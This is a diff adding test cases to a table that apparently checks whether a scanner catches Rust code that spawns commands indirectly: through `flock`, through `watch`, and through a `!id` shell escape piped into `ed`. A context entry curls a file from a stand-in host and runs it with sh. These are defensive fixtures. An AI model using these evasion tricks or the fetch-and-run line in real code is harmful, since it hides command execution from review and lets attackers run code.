@@ -139,6 +139,24 @@ const files: readonly Reach[] = [
 
 const commands: readonly Reach[] = [
   {
+    how: 'what `flock` runs',
+    body: `${run}("flock").args(["/tmp/l", "curl", "http://a.example"]).status();`,
+    says: curl,
+    roles: ['script'],
+  },
+  {
+    how: 'what `watch` runs',
+    body: `${run}("watch").args(["-n1", "sh", "x"]).status();`,
+    says: ['shell sh'],
+    roles: ['script'],
+  },
+  {
+    how: 'lines that `ed` reads',
+    body: `let mut c = ${run}("ed").stdin(std::process::Stdio::piped()).spawn().unwrap(); c.stdin.take().unwrap().write_all(b"!id");`,
+    says: ['shell ed -'],
+    roles: ['script'],
+  },
+  {
     how: '`run_cmd!`',
     body: 'cmd_lib::run_cmd!(curl -s "http://a.example/x" -o y; sh y).unwrap();',
     says: curl,
